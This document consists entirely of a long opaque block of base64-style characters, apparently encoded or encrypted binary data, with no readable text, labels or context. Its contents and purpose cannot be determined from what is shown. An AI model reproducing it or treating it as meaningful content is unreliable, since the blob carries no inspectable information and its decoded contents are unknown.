m979GgFmIgjt1EUxiHnGJqadwKgAqqwAYFGD0R2QsiPVERUtswK3Sn1XzCiDP+lg70q7eAG3zH2iDL79q+8Srmx5yjGOkNG7MkbAjrcQsp2fTWeRs3hBaFsVM8RXyaHkEN+hyt6Y7fw3FYWverGAEeLMeh8D+qnEVIo777DoWw+pBvNroBqo4rh8yXBR4HVfWZo5BmVEdM5dWCZvcrMiMQlfm37wAa3LJ2sxuKwact8lBgBhAB4aOqEr5pknuaRfhGr0Srb1sSmHSo1RXbmaZKX5mHofMtdmM85rgO2FbJm3gyiAKtzfARXXRFVfhkdH1GVRlVZUPhnbk2hkRpikXPSn0NlYSz0jk9qTeqkavCVs0AgltNRHMQtfgejxrEJ6tCNuwy4W3JCDfcv+1XW8ErDZ/3xqVJwQ6j8QOnIOwJ/4Hj9UDybNW4W9F0T68cVcwYfKmkODqFW/QRK8Vv3vq5XdScosbrxSAuvGyTNIxOCzfspCrRuLoIZvXUARilboP8jTMZmSYhYWzjVCiAmkox66otbK2+cJt6jiQ5pHVQba/BaP/RtXi9gD/lOHiesklXOCCPXY3XZQKO2ke1t7Y4EzGDXo/Nkqlgu4MRp9Q0HZ3lfxOmOLwqkOlItO5SjFX2MYy/YjQmedzvnbrRKCpFKMkmaFVu7ICjF39sBf4EPu5ijQMoiYKQcFpocwm4kRHhuT0XrBf74ViwCVzE7fERxsfL/gadZ5by7F5UpZGA1KxfyQ4yLS/vP3x5rru5vRcnX+Q6ePiG16O+8c1TBXH7hZh2QTEUWIme4RDF3X/5HfzcpHQY2RY+vJDGak7ctbIPFic/kwd3q338eBucUVS0FHK0V+G9AfOcy+udwj4HwkXK5M7guPQGzg8mfy0zqvdIQSYTnlE/icpWFJ4FuLL9NwNpe18W1XRcqyyGERYLkd0XhJ1V+Vt2hL/WgI1PfWyvsc9HMPKBynzfzd5dmYcOAkvL8Lvf3VVUbJPvoqjOC8y8HowQkvMSAt6+75qDpFPiQxNkQ8OmQdAc8w2VRnlzsQjS4nk1MLIg99/2NT0VF+MBUyTdPAGrndF21f5C3u7UzrLUUZKuJoazNj4nlFop8Qc6k8e7FV/A+QhHoBnNl3w2zaDTN3SkjSTkthNUOmsuqOfds322w5zBkl6IjMPMwyamRpbs6d+r6FIC4wvqgvZw3ifkgLxt5Jxa+ECwagFEQMe3Ss1UeBSgiZDEw7M9Ql0PynpPeO15WCsA8/5Mtc4nShbVhI54JkRgQFRQbbmN86h+U3xlJO6rs9zZFbdUWXeBqblic7TX087/SA67kvKIGEg1bneIj9lzu9PC7sryISZlj9V018RvAy9JDw7oVt6VD4in4v+5YUq/5PniqIjc3FS0I2uzW9IX95QpYjQqglkgjOOytcVJV5UrX5sB2Ul4FmJltO/7qIy/UUc8NC9+OCBONFVvt4YxqCQ1RlxNLnNEBih5fMCkgiiJpZyhJyiB6ShdHKRuGzP25kpmwjI4fWUGtaiAMj6uv8TDpp1PUJzK1Uari3Gud9NNQ+uyC7ahp81l+583Qwt3h9iB8AeUQLn6iSA8ax8IzgErXdyYgDeLYfP9AnBNhqtjYrrkfp16M4qss9Y55SLXP08/UpxI7jbqKKacpiKSaAJzT8girj8HM0y3quYTunqnfOmDp4Zh/86IIPdfLBI3wLU9OkyNrobTKJqe1HbsvRYhiDDwQ0QVCQ5hPD9PekqAxq5kmBFHuEyuzudgC0xR10D0RIremD/w1EhUIUKeppyOp7HAHa1Cd61Bu8pdL2qovd+Cv5OTw1a3jXOduWTIxf7YoUanIUE/gPvUDNmBsfT/HgwNXenICZW8BFUDSQzPtUKXcv6Kq5HgjpRNW6Yan4N5dAsfwGgZtzqxnpzRUsc5zhTCO4+JgK27rlJWRxXR1fRVjVUhwWsQGraGXDq1OAGy7ucKJQ7JHh/umj4ZH5JfzmU2Vzz0Ay8f2mNlJtP9GupYl8ERbvQUtM/+YgBGdmW30F9D36LInNfFqfEVm1nvb/8EcglNtqCN2NQBVcHMOeLMK4IIHssyw+4DYnqJOoPKa6LbQWI1AvVjL5oO0hdnv/w0ww/6jEQaCm3u1tnLSBy3ZA5s08jKbbpZ6zUssPg2lAc5vcfiFR+YMjqpuS52LFq8HMG8Gw+Z+KUBNUFThvWZ6LfcLfgMoN/WF0zo6PHftYfby7sSPlIQN+bAaqIsJDeyzbhEjPIdtTQBiBsPjb7sQo37uP+WhxZdnxpoj0tijwfn/oGkzMbMovefhbvJ27coNTAGC8kBJ/Evf9vJGMDbMxwWzqcQeZq2HZRUhq/hyE7itiZ3lVqzaNDE9mK1sIL42IKXYa9eWTEd3KTyM2dIMKM7CkUJRAU4C9JyWnPHtd+u56UP55/QTSK9MpxUb+iq7lBkCkc3hGoQctN/nSdSLBvwEoma9bLSSbWw5Wm6A0xBOgXBqVZdJyqqPgK/6vRWjABXlsSh2KH2qIMJlTACADQ81YMdLfDxAT7ZWjn1ZtQz85LCykpc2ZsFEPzi4xibmOMHrKbrRdNyBKgKm4i3KQmDjFWuCwQy9RM1K0AOZvrsFN0IH97NQvlaSoRpyMvD03rWLQXv4DLHh0IZkTpFuTIQcdzXH+TS/7UJBUppkxyJH+2G/HNO1hPMHuTN5erqHZCLJ1ePVDr/ICiHafDzNmlZRISQkEBvcyK4gD8AN0ggRqrC+iJ2fxkiG6JdxjjfFa70B5LGXZIMkg4GW09tlavdQ+fEEn3f8fxcwM2KrJXK1P2Kxstuiy955ERisqCmrym/8nJrB9yucPEfqbLECq5hdSiXnbDYUpIvOsLs4fZJZGnddiL+S/04vu+7mgJTwABDFMZ8rG+iN9t9de4R7IvnvZCYMNi15DEGq1OqMznrSTwPqdd9F/quHK7lZnJ9KfcBNi9g1Jren6k/eWCIdylAu/1/WOElNFTHR9QiSzH/m1/1qLcFqfjkmSU/sk5QEJj/Un+tozaJwc/zsvq15x0zQSxO+5AgUbr7T0XbohRxdhy4ozJhLSfci8qyihqAPuT3+9X1AvTARA48Fc3ovCC1wvJtdcSJJQt1sfdQJUn0c1117HTHKPGTPtNWHesDMRYM2pCnIXTWdqhH61sYWddeTT9+jddc0HMlnrWXvmaKt4hlP90nFSp51ByXMYt5xLuowiQTNskpWxfml5cDlbLsyALyBQUhQbS5wND8n/ucJ1CskTG2qO5PZZvUIf3WEhCvIDL3xnJitdr6cn9uuml+FEJp1ANEKHI9Yuz8le9kOicCPav/ot0rQvdEKuU45lSqU+zFPgYU3y73hv321AoHg2HBnYfWroDa1+vjiPHu0bFiT+rJtXyJ1eQXej6LZV3IceFO7bjK0u4X3Vj2upHbAFBbRT0/3f33lClMZM4mgpLYOVLS8n/AaLbbHPAE8NXEzKfKMnTmd5De/QVNLJN9C/XTvK7Tm6/k2TfoaIewVSmwQp3iUe2Nc6ksDNmv0Ex9N8E6sAKAYlx9xmbXsf2U0E9pmNfpCkTLPRrL//1bdHl6wM2M/AP0+r8krF/yTp4R7komzQFTZk6kmdqfeX5/kAippTPDn/lvBMpQ0nTxJlOPWeb89zAY5XI+awrDMCGN72yRN2aFnOz/cPv2XUHXLBzv55ZSfVM1e7xHKkBFVyXX6HHFWh0ATTtrPX54FlspECxtU9jX40tRufoh8xVjrodqnNcAFNUm89k18TMdC1nghdsC/Ze8dGJrztsBJvZysjAavuIVlUCvNrAH7lZ1EuO4b1ikI1788UdEAU+1yd8N5Co1h2XFDD4VEd2rfCCxMeQiVpDriMgr9AFJ5LbehEaAWE4DYDBxYJLXG3XMsi+5k/Jj5xRjQOKiN9xONKbO+LzRKt5lk8BrrwTq6BLqraTF1Zh+kL+7IjGWN7hTPyVkJbQFP1P9jmqnD9wvHC6nGbHmKzhJ8GsxAszvvLziEuETOQdFgNZHjx57E/i0rHLNQyKZ820VJ6W8qJzzL0YGi0oAkYCP2MjQfXrwSJl9qEf2p1QCeFPDtzD88JBxrkwAmgkpr4H0kju0/ZTgv51mDhWm9HfFPVrprf+huk2Qcc2nzT8WmD1j92v0wKrs3Mw/Bc2JV8nzxb927kclJvzQOl1pOxyF4Buhdg6qiVI5xqgrJPqAo0pAYRGASuszirk5sn+6LDN+sEou6AY/eMAOkvGLBatc+2sFuQ0Ud+txQVQMBTZ2MmJErQvYY4+c4eVtR1ooKE5eP3YrOoPBeOe8bE8WZg51qKcVmNekr0RwyQGWdEhfj4kRz4bvF3+VGhsGmS+nAkqMAeZnL1bEve+vwSWeqEbstyf56T/4tUH1X2pHrIoN0wBnQjVmYvjAvq+WT2QstJtRwsp9BailoxPPAbbmZkqQqG2TLgSlCWddfrlIpe8jLPqiJ54BvCKe5yxLf6hNtByraGueb8r1XNx+j4lv6BNibIPrOiLmMuXQHTANIN/6G8l8yaZE2PK/Q18mtuTOPXrlNXtoYvzzmCviABPH+gfzU3glzkot1OKZ0BOeAjCYB+GAuMfSYkpe6t7nTjyPfYuxN4I338Zzk+1ycbmymIa35xSMc6FwDks/AUrQ6EEIF2I8GjvFJGBAXzOkCcrZnZan+V+cFMCcwJHacjVd2T0R8OKitlu1jc3lU+mUpXPahFCtCEzt7KJbyZIMndr1rG8fEILLrd/2itJKSLgtgYRtCF/jsHW1xOppcauMrXSYJ6SQEGZ339uDnvcriLwCyrP30Rj2qXP0jVnfJrDw+59+nq2O+mBWv5Bn7uV4sXn7Z7drqE3q6JzmgBsWVEa4toTGR1PhGoCaukk96m5Hz9HxUpqrFYnZ+6QDChVfJH+mHloYDfkfoS614NJE2GN9nQeNZ1NT136aaSExCxuKMgJ+t5+ZZDHR+n7XGbJLhTz2URuwujpB+H3+GbbxdxVUqrswsn34U0rO8oqTLPLZbYrbOnJ49JNbupPTzPEewV1yzNuRNgEQocifKUCD0EBY9rBiTvDu/IKdmgo1lJAkdyIJhaO7tUEPr8BBYIhvEgjEQA4eIVJja3qZimLku21AWXVUfUXGeEbbXWeD4XUexPKLfSAD22L8lze9HVz2ngOjYx2YBd4cuTW+jauRWJs2i9v0nbQwCws0v+j2u8dqtHVudS+9vZzbOHetMy3j2LvIl+q8B7tr0bP6ZuM93qUs5UQmrdwAHVrk2FCpd9HJbgwp4DZWFwTaJaRb4yKqPPMkqa9hZH/jRxmbVnNHfGTAqfR/97xLO8lEiIyW34+gY6ldPfya1SdMLV3HYmkMoo1jE8f/g+et7KKN1NNom15LAcKg0K2zg5DrjEbIrSkwZhe1pv3VsSKyzPjAcqRXl9lvRBxPM5F86uJTSeHe5mUNVt4nF7MBB4k75Q2hhdvZutXYgi4Iy3A0pjNj1ACz8Lnjl/6NYC6X7tJ4j7lIpPkihtRpQXFHFlYWs7EEDUJwve2v54HZClC+Hn1C7BmK+d6ETjNZbGGtAPXyvgB86/9jV9gkM8NLugdNWDBmoLd6Y6QedOEKkn/lCI+iPfN8Kf2OvK0GYRHVf1KTlET4a0WHmdR4U7NCf+pgU7eH/rWUCfS71zyExBALp9kjhxwjIfC38K70AXBjk2TCXjduPXeIvmErCbkm7ukzWbhY6s0ezAWiZhEJE3iZJv8xLOmf2JDF6QwdWaQcykbNuCdqYU00Q7R8mVh6DkYk/qHn3cpKSu6MVpXy2IsK5GedPlJpZlW3lE0nIEzJvayf9nDsP5Q/G53zzY1qybY6wP5TshWkJlVhdO6JdIPXFIymzSwxSi6SoPB3LH5veAh5oZ8JuYQa1CjVH03i57YSIsCpPFK55OWrDMDs2RFtlmlkkMpGMGvt4SpQwceX0sglmIHFEIF8Y2ccbGKQBr4AqkcvXXi3QcBJLj/xubJUqrbrPJQNeK339y5Oaf1gIOnSqv4HEqOuVkAWwkdVV6J40OTAHYHgcNH7Ftsm+jRCn0IguoXHxd4KP4nOmtMsgYV60YwRstxgU6U4SR7oalgRH3bpWC78ybomt9Ik6JD0mbjSKyi9AQA/pSeoPdyE/ZBHeERUfVM7FNN8a0HUy8CN7OzGop9P+aEKW0C+jUV6yGj9J5ZG5Rw+EF+8ERpfzchlbXlU37TtQ7dfeKU7t/tcrtAhKlieSmgoiWbg9CpfxyFcBDEXA0sDWXeJ09SnYoD469s0Qw5QJd0v7fKqSfhL32Y6DnDyCuzMReCJwicgidgoICSQ5OizK+T334YJQFUFrQ7mN57HZNx8w9eLTgN8I0NNY1d045phYOAkflhV5LGXBiXCyM51uzaYRx6+qM/OteIBobCdFCx5P2R/RjLzGlr/4/kXHq6oH9GY6PfD7Nx6HHKWGpOkHRGQd2Z3m5dvNJcI5PmJyosScGWEvgwwby3FjAG9Syqcqvzvjs9rbrnCbPnE4ImuPkQHvPBlDIhP85jzfJBNDOeSIIiKrbUvw83CxK5RQUZKZohk7Q0dw7LbPsUZtMs3fnNQSvAZea2NhmNYx6OvzfnJeCKc7/Iq3eNTqBRw34O5wo7mhE6XNGVot6thLRgglOLp1ouE8pUW9FbIFKEeDAy6CeRnP3ws4wcelh3E+C6MEsIMihA9w7jIXjZGkzYdlzTFabA/u9X/cQOrh9GmrN2wocpkIz1vKVvGPTF+P19RAWAZfrLcZIaOKXPX45NCU7DcBM4gUp1bX5F2AdtV9N7Xsa4s1snA07lHy5TPXsu/TKndcXigazUeCL2zO9rSE7Bwb2XXdiC0nSECmSnattFjnrXMnk2rWpZhp4NACC4dR5zDWY5PbD/b7hQMbCeyv479ycAmtPMx7mh1kLKZ2hSTaTylF9vzeXrb0WJlzU9DTITu4MVzvXuG0aOuPQ7Qeb//kNG7QxeGgk1S7ttvkNLK8NtmxAc6u/vu0TuKf7G0naNcD2t3f1rF1k2uCHuCG9POrYyScWrjYtK0+4bol8I0GDUF5Ykd5vng1v9Gt6wE2i2aKQtvE4kiqS/HIA2mOBgDeMDQwj40FnNumfRZ0dsQczlBdVqljBvfGl4IQj7oVNdVItj0ecexpf9CI6v33JA4xH5cGJ6i4yDuhPrnJzY6LTK7iJdSgRdxnvHO9IBNo07B1XLHso/E/LcOqoIMv8xwvk+y4RCqxAkzX5Ui7U6buHNN/G0ke5HBuq7wMi6VKBiJMKZIS49YIh9UhxIn5L77/tUmHtUndbA1qeZv8N6krIwbPjfrSQj+63MhO2OCdfSts6NdL1+lk0qAk44OQt6nHVuSlH4glnsSvxxvHWeWd2ietEvQyUD6xR0eeUkGlXIYMtoNTgU9AHRowzDzb4Im8sLRiXvS4sqAmQPl2ub7gyn61RmpepUWDlTzOAyQKDcKoJBpa0CnZ2IAt+79vvfNw52V4ugit4GEF/KnMm8B1NUaK4u3bEnMQheg2iBIa5fg9W7X5j6bRbMUVXH5Vtr+wpQQBR6af7oTX1GJRfR3EBJXtpgVF4AluB8LpwCo9qVveRrD3hNWH7QLbnJoBWWvpWujJq8kuQT0kcGKnknW/lkl3tfkLAQQozRWtlFD6x9uiMXUBosPyxT5FMgMPN9QoM/5Khd86hpASCUm3tXvTIVog0XIy4rbU5J8072z9IYdKdt+jPZPZBMDQU4Y2g6e/Lx232e0U+8Mh+5frMEDk/kiriiWv2It5EqRYKZI+gL/V3QXNvQjtdvem0WjEn6T0/bTUtJw2yQYmSDXi0MxeoPWBEwJNaCdB/FY/IiFPUGnS966M285hmOcH0wobonV03QR4BfgsrGRkqlKbPuhZUE1oUJIt7DFLTbXRU8H4xPgDveTYqTw8fZo7/s/+0meUdZQmCeeNjNRHuoq6Zq3SWhenp6R2uXEovb3qtzFWXGysSvqMloCxDpYZ7cF7IYRd/Ba9MSygNc03xLKQZ7D8lyVr8RToraijbPbOIYOdFnnEet9qc6L0pqgV9kwJMRFM7gm9kp8EYiwh9SSLpQdlVdYNfK8KhzuWfFViI+o+O/N6CQFkWEgFPXcfrZQ2T4NACgJ4fIU4ygjyYaO+Hnzsybmx2WCtPLGI4PyGAE0ZS2o9JaCPynJmRaiZR5xeCM+4YNkC0f+XcNFAz3TnCBe6hUXmOw+Q64HcFS0QJuM3cE0/sCn5EaV1Gucd28tkzyvYxJVHFRCWvDDzeXG+nXeqv7wZ2xOp9AmDNDizooTxwUUqlDs0t6HfC5efNh/y0FuRCUHlyJ9JYhdRGS9fZD+Cky/xLkv0k3rQNji9qWqpPdxMMGCpK/FAhHFc6Hv2uFeaJi3fnVkDMBwntnfeRK4ZWqQF4KFjwmrKmQmR2adXnpdjW01ty7Uv5z9GGHxtsVT/wjlbO2+mr66wJopK3Om8CaGoietPjC1pI95ZzszXYMzSyZcwo2fBjFrLZBzLYnKU4WyvyvOY4JUOJ+TqOCDYPzu9xkY8tCl6YfaFeZwJt1U0vf1rjX5bxBwdZ3JIL2ZJxA79O5kUnxxr5Y64E9pLk3qU7x5WI+1y1PdREE6S57OlpzPQ8d14JI/gXkblFD2VtJW6/SFDY35OD7VEXWvyHYoPAj60zNfLavXpatuqsg8CvSwLe8hG3F5nQxkBIvHvveg9tadX+MG2+pGa3tJyAdP0XjN712XIae+wMuE8M8v9v6ZKwf8pRm6bS5ad4I55Ge5tuohEWm+A8ZooPivA2O0eGWWBwBLfUb/HnTJ3nfN4w3sp5WUZNvFburPRjt1END8QEzSBDCWZNXgQzSXCUF1Az9eFkGTdMZc1zeKuMvkBeeDcafXNY9RHomWYkakSPPzZMiyMzevsdeERUweHTwFJwlg0FI8GZWCdICbRv7REjd/e8TEZ/OgVu8xa5gkuCJqwA1gkeiTy8GH6ez/sb22oyzu1KvRpHmJMe6ZtFS+oyBFjUzg5XRhAkzzwckTak+aTQj2AWbesQzBKziTZ0jhkntJ3YMwDap2ZyX6Dz9o+wsFt/NOYFkI1NpHmcuxY2sdViEPbI7a7KTesUWLCO6WPFiiCwqfDRkpxYyCnxq+YwmVdbmA8nwxJ3C9NRxINI/K2/amR+VC3yV2gnGhwB4dh2qKV2mAedthmH1QgLF8EGZc3V5gN98xo0/bPFzwTkITP83tTG4ocuXuTkKU4GkyCNf53MasbP30PxHdWJGcOh1CkuMye0nLzOEZM3GvFNdIXJSmrdxVWOJEq91vYACVY+DItJG0yz1Hg8oEZXcBnh3MQiqLXvYb4IEhNn02BwAgM00JmllgsmLeRJhseZZQKq76NGAQ/WTdFdAijM3BBFsOoXS5Eky6fU3CfVZAREyk5SR8sBzOoYecSPBwlIGUIosaw20n82vFBtt3sDZ/TuxrT1bCp3uZ3uklvEFdRcOcAu0RwF2bELOaLalPspYui+6KN33mnqqu3CxGR73EosqY9bsR4PEiyhLXhWMZGQFTvVMB8OyrMuh4VBanw54BoagnEGN8wK6phS17q2JESv/XfVXQfMQE+jUAMhcipZ9XIy/qxAiERLQrajWfyk+Ij5/NVE1koIZlj5YzkLV9Lt66LPEnrWoS5NoCG6XD2jrYfnm9PKCJ2YjpTCDSV+OcUB1i1/rvEsR6l000BhM04mVZDKqHv2aFXM8N3+EIFhdZzUzxoqLbHP9RgSkpdaOwp3zycDABVDf1XZIP3YzfEN5F9Rmtz1+HDo7MAIE+UFeEp8FT30jFErxN2QDM3twRJNkZalk8d34ugvGfbBXPoPfx1d6GDdqMNXMXUaP05t7Fh8hYN+UqoMxN+lWWr8Xm+lXqyjKC6/GeP3N6cTwlZf54Fr5Cl1lcpviGJVAluN+FgWFtuw6tDuj7eMvC9kZA14Sf7Do5OrDOM67JA8W3Fk+SVpN4FVF+LV3Wt2ozVn4VuzbtWrXIoGS9/1+etaZWeDjDy3mcKBIUDP75Lc1pi36Eq8I0fjLVL9lmL4Mvj9m831rihYxHuaplX8nUTCm3GZpuXJLQ6ht1/KZ/95fElMnu2UNaUofnjxIeljj7r2np3fuxRc6IjtUBOoNoDeRHC8UNvrfJrIvT6E2qTdwhI6RtXBazaFIdZDiADMbLTKLM4bhVnQYrzLpAWcoIfEj8R7gHbgVNccm2VIH6EA8ukbe0pjf7L5IbJmR6spG9sqYk4+W4Wtvt+ycZlajiMrjDaKMzNSEhmlnKshAUZNd3EZBPcvRW/oU+VNSUIk2c61Je1i4m/5loENGy64p5pq8FmEZXSOY3bMmfNE7zBTiDMqtndrDpDa+7o2oT/3yXm0gkgXGTQBPJTR2kB3Wh1ixz6rMN5N77uzeDvCuYs1Qv/ypd3Gg2QSxqnWK8SCR1Lf9FTH4uRthMIS/FbEpLV8SkVALAbpandKbKQJyOiohm97K6xq5nVvy8Lhb0BdtdnK+TimKTHXbMnG7n3spM/v85zl75lIYLJi+0pYunnBS8GSXc3sMRnDJ/CWM7srQwjrnV+G10hWj1K/OfPykwUfuaCtuL4+ZnHv5ZOHIRs/UZsOAT+gZlpre5wL1okHc6YfH/XcrhgBykqAFzad0mHGlUfLercXM4Xs2qc5uiN136UXvizR+bDTKeSAkTKfoLhmo1kAx5U9hjtN+xIaHgtsFLbCR2m5gOK7Awzm64oJWRwBsU79rXYCfQ4pypWXlloPnuLozaxnwyqWOd2tnGTBov1pRcxLnJToELbz3LbdhmTT8XyC2nJeNc8IduBWHZjl5u0Ez18aItxCcuVuxidfrKIjBFzw2TOu8u57ut2FN9nWB6uMp7/Iw1mQvrJkYzgMxyj7ZxVq5R+x6EIQ4Me52whtka2tdsLHvSCMKCi0aCy43xe97yi/0vb8xZtAbVQIY/OittoLui0g6zlU1h2YybFPozOJC54zeD6hgeFv85y9Q1A8Eb9fjiAvl0ynC2n+dShB6vgXwfYo7LWF/XRJ9eZIa5VnfyraUXmex8vxxiaOwbLediNbafp/hmz3J0hpQI6cIVRpd9DjJSrGxvHZ6uuBhXNuU0+nn+0BQ/ypvHApQmSOnAL8STn2/X3RCnG4NVX8v+6XVAl/FKAzN/Fc65hBiG+Xpp4tJ4QyH9h5e+PBGEzGKlW73KWS2at9QPOlBKQbWjC9GALEqFD5C1e23URqtz/FHMxjU+bmkpHWCV+UM+Oge8baLhiq/9vvHV2f7Hc08U9mT8PE/Qv1QH4noj8ktmBA+XJ9eWYmVgvYkUu7GE43d1ksrX+I7q+tuMP9nae31RXVnPV9LO6h4++SyuzHTumjcScPFO+3nL1gNplmMMmpdjguqxcaEa4dUqnOxt7WwTkgZWGkPZBKaWpey6cGYVXoLbgxi20PH+wLAjxK3pdgGSbp5d101HF5a/ywT7prACe41CYbwxlzR0LaP/iYoslpabhW5PUsiz4r76nivo18CBKHWrzihhvEyR4j+PF8wka4BYeIXmKLXWtJfbODysm2EMdh48AZ7sAfOTm330WIfQdiTIWKplwroYd+aaxENdjN9pdRi9k4RtQFahruupy4Zo5fGUaz3V9eSbb9/PqFXW62WkLJoi7YXZ+5VWPiRPUTtAwnk1JHF3+lM5j2+L9cjjr7WhnYjbXwZf4lQ6t14kDas9/6mwwoQX6G//sPfpBkFdB3j4P0RgeQXYSUCXMNZ0BoXHsMu54xlejHi6swcm9OhfPpOVFA5mkW4WYplAhwt8iWdvbR+gSy81VTdbpMjIY3ipkzVEQcKGzuMlg0DjLJvK4smQAcQtrVjWH6OfIU4mgTPsJH5FloatwWW9sTAgDb7O7EdUa8bFiSNY+fbOWgAkYizFGMDeJLcnqHPKeTtRTFKxyzFErd06/kRYPooHL3kI8UYdotYT5TJ8pZcqJ/wGi+4l+RQREuzTKofC1YX8PQLH0+6QQuJIzAvvQDHMt1lFZ7jiAarRfYZMsrmVM9rFNOWR/A3w680PZZ6FOBfpO62H9wsFiXYBPKX6W6fADheBDlyBCrkBYK6Udv2FQjDxMPcUHgiSrrMiSl51NGpkyEula6DRffK8TlK5/D+gNALzpyD2xel6E0KJAyOvlPGxcQ9pQIJL7MMbWPC5llT5j839jD8+sutx8SaNdacMnVnVPj9yI9O89dV6PgA6fSU4DPIhdKKHmt5ARbvaAsN0VlI3yu9E31uSzUdrsQwHIIC12GeM4bCSD2F1sn7/rHlXQxs/s6Tc3M1IlUP37OwZvHiwC7b8ei8wMmSR820Rq4dRKGONMJPRLi3fgtghyKuhvfmuMcXSjWXCp8izTllszTO1oUReqn5B5w1IirMCTx5H3zqIyAaRt43kDYhCKUb886u1w/RZMKG0P7k1Kj8l3MFvKn1EyJgDNrDaGTNe9putlrQMQphhPY5SJwE+KJsvRLiCPUMTpFeT6ZBrSnF3T8g/JUMqN//aXBGs3y4L0mialExtqvfkinwD7F3p5khcAJLQ4T3VnSSnCFN/m9O0lXiqEOVTBVbiOgTeT9IkQXXJ9K5iy+h2lZoXSltAjDNfr6Os/ozf2lGl4aRBtYTUUje7XwyQA/K/Iz+MRtAYS4igoik9Qjt21uKsP9sJVRmfi1a20oLFaJBPIS0hc/7ADkqeBS/brhAZHuUP1y8tjg55anYdjom4CjFSYOH/JpuagBMTEEt68k7IV0yO6r90OfWywW1soz0hf/bjA3uXUvZ5kBtP0CrB2tXMiZ4sxODJiiwE3lhaAL4cppZq9VkOCbICGd0AFFRTSl+t+mmXkk6QTKtY/sPuq69JE/B4H68GiB+IqwUaZLhBGsQRzT3awjjuvMdiYfn7bUzDI1X8gcxIfcrR9vU2Pp5MmHcrEELmUVIxyQ+kt3uP/4Js1bmnYV+lIQdbvzB3J9ecWBTE2tYX9ci4UDtJ8hPmrmw/lfXCPxu927FVvVR1PX34J44m7BelIs13yq/36oM3exIN4OtQK6Wj6U/vAIXTSDtcNf/t/HaOC3kThW0ov/2SNOvgadp3qS6vu3/iJJ1YeAS6/PA+wt7rjfjnIF5NLz4Hn3LeD7J4MAswmWJh8ZLIXRK70S5XLuNoVbFz9JXYrsmVnKYmAiHaJkMi/FzYWU2Ts9+U1rtcyenseICEv7aldkAd/wx61+BNTM//WabOj51tYa1HTiXJ0dXpbQW33mYu5rAb87Yk+3ibps1Am23zxWGkEMmbDo7zMde/4IOkzO1nUrMsiSFOjDN+/XSyPHUhMGrTL3OyOIH4mgDXcluyC4eUFj4gugCLms68ih3ttmm1OUyFGhRI5lkT80oZrkoSwJkSNsV1yX//S1ZaLGyQ6WI/DTwZHKumNJWsQQywqgAQPMeYj3Ekx8wnI/pillVpWJdrntm5hU1gLU1E74cJNxo1243T23289tZr3gCFjSfglFOIRnr+GMSyt0TKzf6fpj5RcCV+XiHJDKNFU2jZ/nLimqhIyq4eeQjDJ4BinTKz+RGlF/3JrPPGvtBcC1Ac3UrFsrVdgkW1NwAwm1uTw+B2LDujGCsI0Acqx+akDe/6U7c/FtnEjjnjJ9et71nC8C8HrxBKk3MepOraEn+wkooWzzl8bhwdOv7++wrctH+c3u4wwe3vGFIoTy0Ep4W5VzKyLddoS1ctXwj8Z/Zx3fbnC7kuP6Vo+jTh/Dx2D2zOKRqYHt9XF9vNG2az04adQ+WoWhm/xJDPMltJaafHc53E9PJhE5gxbmwVrlQSebOAWXac6LFqXEZm9yWI1f2ZIBIC5NpLNOkAvCB9iYSoqnSFdopzcqbshDBnI7RfJmAjlv/CrELM0JD5Ok+Z95IICaEDzMtbiDlwIPwoidKVHHpf+G+4Z9wyR7XJJzna2fNuEIpiNiompOJ08BzJiPdAG6fC0hBMdcBLWtvxcoHgpvz/YEagZmMHLSJ3KdBYsTbLYP+lb5XwvEEpq0k2H7pVgCFiTmLt7BaM9b53xDHi3gjWH/HatfUvuvihDDpo7MovP8O9aImwc/OMK2jn2E/4wGRWHU5sGfChgjruTVO4WpVDPwDNjoxVJf7k2HHIzCfidpMWerfgkhkoNIGVoW+L6zBvnSiqwp7Wk8G7a3cou+LObZNcIdi6LEJzP5yub13eAlqnOck6zWY2adNLhPmPyTElP92YZQ0vK4mmCc8rffod2HGIF4uy8x6c9Yk351sWo//9d2eX4+ZjM7TL67yY2w/HR43bi/1sg86Manvh+7oVY5nlSYxTNqu9g8QJYVJ8IJUZol9Vkfs6EHcOcUZf2ZvJRqMDJyuhEGvraAy1KeuFYQq+xUNN5OFjxerVAL3y7la+yeSu0Fj4epRQg8jmC91JQRe3ZTbDzNfxw2SoKADnnMCZVP+WLYI8BFOI93jAymOl8v3VNNVCtND+hEAuDKxk6Q6GItrGCjbXIvTSFDUYE6w9GZR07VlqWoEwTf0bmfRcCCRjhvFB/etNodlGIx05jPjcZc1YWy6LuukCnADtQ0I3wNOQckynpcDbmVaB4n9Q4lcQ43oA9cL2qNpcJX9iQNMkwDTcjk3CN6sK30SQxA7QXkAeBxCzm532K2rvCiFvdcTXRSDF2gqKfXc8YTu4ntR4HybRCD/iEXH1RIzf5I+thvv5k1VhU+nf+jrO4xSrN4PQQSB3ELJccrTFoa3wsnFcXcx3HRWcA0QILuEndvC+P5afbzAu96XiM7jXV2/Z8pShsiusCzri5MXtiyS3PZQE7rZFxHj4JXAhUppZD8+zq6J00fISE+xsHjt0/2UYmK1DllXuHzCpVW0lzqlUingwEalDA7G2TwHSaXS0azOUjDAxJzTFfRh76WtjWcjzZC3dju1sLM53fJ+2hKT02gDf9kkDL+TaHn8AbW/mlUjNByAXp9POO7SdGDZVEthRUd9+Bs56kmEQsJCCiV2hFxnVd0Bcjc3jj0eZvAj40hoqAEU7wQfwO0Epc9OEUdaOYhorfzOleGpwW/ZCghJs2iDd/TPHWtwHGOjNKzBDbH2Nv5YZSUeaN7lgSd/brJZo++9Jl+tvx1DI2Mhf9tnh82xHQ+iRFcJdfC55dacnZ1KdRXxKrWOlFd23Pi4F306KZSIBtRhB3PAvVuQBSaKpSe7TH5g3KXx+qlKfsO7TOekBheQ7uHa7Q9AS9I3rVBJfL/yXjWPJYmHQ+Y6p30E7XT2YTAvkYB4DSJh7r27NPCUC/3u+RBh1CrSisFvkYejjw2vyXSkwQaa1O6jJJXcs8riLrq2riYsy07ix+FAK7LMnlmXGuySNYASw99Ni81Xav3KJVJSxcr3NNeF8LNwazMOg8B2VQDhyKgrD3rAYzVImNVNe5QX/ZaQQiMbES2KpP4cDXOChbqHhJekpG4vouJmyNulPfH8ZL1JmbcNxYMwv8mlkuM9TPHMLnTR77h3otEn480Cs7j2329+LbTSXM3tAChR2k2zpdjr+Axd9THeCqd+UthfZdSVbs3oSQCdEBuwaGeg5j/gjHXMgZtf5muB+v773NHPZ1GbTOEbHOvdXOulbVoaW/YyfKUKG4lTTkNXtBSwAneJgBnNRiUySWFxWoPc915z9WV1MgyKIoJc8K1hm85RR685abw3KjHIwDVgi4DGl2w+T3yyFvvbkIGNc205px9jbizODWi+nsiY8cPpHJFgqpo6UQtpXO74yID1aFYqJaQxOvCfLgMKor+w4k+JyFcdmluG5xM4W+qKPjz8nGQZJVv